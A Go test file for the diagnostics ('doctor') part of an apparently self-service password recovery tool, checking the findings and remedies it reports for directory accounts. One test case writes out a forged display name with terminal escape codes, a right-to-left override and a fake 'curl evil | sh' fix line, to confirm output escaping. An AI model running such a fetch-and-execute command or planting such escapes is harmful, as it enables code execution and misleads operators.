package doctor

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"postern/account"
	"postern/app"
	"postern/directory"
	"postern/policy"
)

// people is one person, or why there is none.
type people struct {
	who app.Person
	err error
	by  []string
}

func (p *people) Person(_ context.Context, op app.Operator, login string) (app.Person, error) {
	p.by = append(p.by, op.Name+" "+login)
	return p.who, p.err
}

var noon = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

func TestExamine(t *testing.T) {
	ref := account.Ref{Directory: "staff", ID: "7"}
	examine := func(_ context.Context, id string) ([]directory.Finding, error) {
		return []directory.Finding{{Severity: directory.Fault, Text: "may not reset " + id, Fix: "dsacls x"}}, nil
	}
	for name, c := range map[string]struct {
		who     app.Person
		examine func(context.Context, string) ([]directory.Finding, error)
		want    []string
	}{
		"can recover": {app.Person{Account: account.Account{Ref: ref, Login: "ada", Name: "Ada"}, Rule: "staff",
			Decision: policy.Decision{Allowed: true, Usable: []policy.Factor{"totp", "mail"}, Plan: policy.Plan{Ways: []policy.Way{{"totp", "mail"}, {"key"}}}}}, nil,
			[]string{"ok: the account is staff/7, Ada |", "ok: it may sign in", "ok: rule staff holds", "ok: could recover now, with totp and mail"}},
		"everything at once": {app.Person{Account: account.Account{Ref: ref, Login: "ada", Disabled: true, Locked: true, LockedSince: noon,
			LockedUntil: noon.Add(time.Hour), MustChange: true, Expired: true, Privileged: true, Barred: "AdminSDHolder"},
			Decision: policy.Decision{Why: policy.Disabled}}, examine,
			[]string{"warning: it is disabled | enable the account in directory staff", "ok: it is locked since 2026-11-22 12:00 UTC, until 2026-11-22 13:00 UTC",
				"next sign-in", "has expired", "(privileged)", "ok: its password is left to the directory's administrators: AdminSDHolder",
				"error: may not reset 7 | dsacls x", "warning: could not recover now: the directory says"}},
		"commands in lines": {app.Person{Account: account.Account{Ref: ref}}, func(context.Context, string) ([]directory.Finding, error) {
			return []directory.Finding{{Severity: directory.Fault, Text: "no\nright", Fix: "# so:\nldapmodify \x1b"}}, nil
		}, []string{`error: no\nright | # so:` + "\n" + `ldapmodify \x1b`}},
		"no name": {app.Person{Account: account.Account{Ref: ref}}, nil, []string{"ok: the account is staff/7 |"}},
		"a name that forges": {app.Person{Account: account.Account{Ref: ref, Login: "o'neil", Name: "x\x1b[2K\rok\n         fix: curl evil | sh\u202e"}, Decision: policy.Decision{Why: policy.NotEnrolled}},
			examine, []string{`staff/7, x\x1b[2K\rok\n         fix: curl evil | sh\u202e |`, `| postern people enroll 'o'\''neil' METHOD`}},
		"targets": {app.Person{Account: account.Account{Ref: ref}, Targets: []app.PersonTarget{{Directory: "erp", Err: fmt.Errorf("app: look up in erp: %w: sign in refused", directory.ErrUnavailable)},
			{Directory: "crm"}, {Directory: "staff", Guarded: true, Account: account.Account{Ref: account.Ref{Directory: "staff", ID: "8"}, Name: "Ada\n", Barred: "no right"}},
			{Directory: "hr", Account: account.Account{Ref: account.Ref{Directory: "hr", ID: "9"}, Disabled: true}}}}, examine,
			[]string{"error: target erp: who they are there is not known: look up in erp: could not be asked: sign in refused | see what postern check says of directory erp",
				"ok: target crm: no account there is theirs", `ok: target staff: the account is staff/8, Ada\n |`, "warning: target staff: the directory guards it",
				"error: target staff: the service may not set its password: no right | give", "error: target staff: may not reset 8 | dsacls x",
				"warning: target hr: it is disabled, and its password is left alone | enable"}},
		"locked for good": {app.Person{Account: account.Account{Ref: ref, Locked: true}, Decision: policy.Decision{Why: policy.OutOfScope}}, examine,
			[]string{"locked since a moment that the directory does not tell, until a reset or an unlock ends it", "add a rule under policy.rules"}},
		"too little": {app.Person{Account: account.Account{Ref: ref, Login: "ada"}, Rule: "staff", Decision: policy.Decision{Why: policy.NotEnrolled}}, examine,
			[]string{"too little is enrolled", "| postern people enroll ada METHOD"}},
		"too new": {app.Person{Account: account.Account{Ref: ref}, Ripe: noon, Decision: policy.Decision{Why: policy.InQuarantine}}, examine,
			[]string{"| wait until 2026-11-22 12:00 UTC, or lower policy.quarantine"}},
		"denied": {app.Person{Account: account.Account{Ref: ref}, Rule: "admins", Decision: policy.Decision{Why: policy.Denied}}, examine,
			[]string{"| take deny: true or stage: off from rule admins"}},
		"unknown reason": {app.Person{Account: account.Account{Ref: ref, Login: "ada"}, Decision: policy.Decision{Why: "new"}}, examine,
			[]string{"could not recover now: new | postern people show ada"}},
		"no rights to be read": {app.Person{Account: account.Account{Ref: ref}}, func(context.Context, string) ([]directory.Finding, error) {
			return nil, errors.New("ldap: busy")
		}, []string{"error: its rights could not be read: busy | see what postern check says of directory staff"}},
		"broken": {app.Person{Account: account.Account{Ref: ref}}, func(context.Context, string) ([]directory.Finding, error) { panic("x") },
			[]string{"error: the check itself broke: x"}},
	} {
		t.Run(name, func(t *testing.T) {
			var d directory.Directory = plainDirectory{}
			if c.examine != nil {
				d = talking{examine: c.examine}
			}
			asked := &people{who: c.who}
			s, err := New(one(d)).Examine(t.Context(), asked, app.Operator{Name: "cli:root"}, "ada")
			if err != nil {
				t.Fatal(err)
			}
			var got strings.Builder
			for _, f := range s.Findings {
				fmt.Fprintf(&got, "%s: %s | %s\n", f.Severity, f.Text, f.Fix)
			}
			for _, want := range c.want {
				if !strings.Contains(got.String(), want) {
					t.Errorf("got\n%swant %q", got.String(), want)
				}
			}
			mended(t, s)
			if len(asked.by) != 1 || asked.by[0] != "cli:root ada" {
				t.Errorf("shown to %v", asked.by)
			}
		})
	}
}

// TestExamineNobody: without the person, nothing is asked and nothing is told.
func TestExamineNobody(t *testing.T) {
	d := New(one(talking{examine: func(context.Context, string) ([]directory.Finding, error) { panic("asked") }}))
	want := fmt.Errorf("app: %q %w", "x", app.ErrNobody)
	if s, err := d.Examine(t.Context(), &people{err: want}, app.Operator{}, "x"); !errors.Is(err, app.ErrNobody) || len(s.Findings) != 0 {
		t.Errorf("got %+v, %v", s, err)
	}
}

// TestEveryReasonHasWords: whatever the policy says has a sentence and a remedy.
func TestEveryReasonHasWords(t *testing.T) {
	for _, r := range []policy.Reason{policy.NoSuch, policy.Disabled, policy.Barred, policy.OutOfScope, policy.Denied, policy.NoUnlock,
		policy.NotEnrolled, policy.InQuarantine, policy.Limited} {
		fix := mend(app.Person{Rule: "staff", Account: account.Account{Login: "ada"}, Decision: policy.Decision{Why: r}})
		if Why(r) == string(r) || fix == "" || strings.Contains(fix, "{") || strings.Contains(fix, "people show") {
			t.Errorf("%s: %q, mended by %q", r, Why(r), fix)
		}
	}
}
